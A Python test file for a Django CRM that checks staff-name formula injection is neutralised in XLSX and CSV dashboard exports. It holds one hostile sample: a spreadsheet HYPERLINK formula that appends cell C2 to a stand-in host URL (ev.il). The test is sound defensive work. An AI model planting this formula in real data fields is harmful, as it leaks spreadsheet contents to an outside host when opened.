"""Formula injection through the dashboard exports (issue 21): a store manager named a staff
member `=HYPERLINK(...)` and it became a live formula in the brand admin's staff.xlsx. Now the
cell is a string starting with an apostrophe (XLSX) or the field starts with one (CSV), while the
figures beside it stay numbers."""

import csv
import io
from typing import Any

from django.test import Client
from openpyxl import load_workbook

from crm.db import connection
from dashboard.services import dashboard_refresh
from members.roles import STORE_MANAGER
from tests.conftest import BRAND_A, logged_in_client
from tests.members.conftest import staff_user_create

from .test_page import export_url, members_and_orders

# Within the 50 characters a staff name may have.
HYPERLINK = '=HYPERLINK("https://ev.il/?"&C2,"查看")'


def test_a_formula_typed_as_a_staff_name_is_inert_in_staff_xlsx_and_csv(in_brand_a: Any, admin_client_a: Client):
    _store_1, store_2 = members_and_orders(prefix="F", home=2, other=3)  # 3 members assigned to F-s2
    staff = store_2.staff.get(wecom_userid="F-s2")
    staff_user_create(store=store_2, role=STORE_MANAGER, username="manager-2")
    manager = logged_in_client(BRAND_A, "manager-2")
    renamed = manager.post(
        f"/admin/members/staff/{staff.pk}/change/",
        {"store": store_2.pk, "name": HYPERLINK, "wecom_userid": staff.wecom_userid},
    )
    assert renamed.status_code == 302
    connection.set_tenant(in_brand_a)
    dashboard_refresh()
    connection.set_schema_to_public()

    xlsx = admin_client_a.get(export_url("staff", "xlsx"))
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    rows = list(sheet.iter_rows())
    row = next(r for r in rows if "HYPERLINK" in str(r[0].value))
    assert row[0].data_type != "f" and row[0].data_type == "s"
    assert row[0].value == "'" + HYPERLINK
    # The figures are still numbers: 3 members owned.
    assert (row[2].data_type, row[2].value) == ("n", 3)
    assert not any(cell.data_type == "f" for r in rows for cell in r)

    response = admin_client_a.get(export_url("staff", "csv"))
    fields = next(r for r in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) if "HYPERLINK" in r[0])
    assert fields[0] == "'" + HYPERLINK and fields[2] == "3"
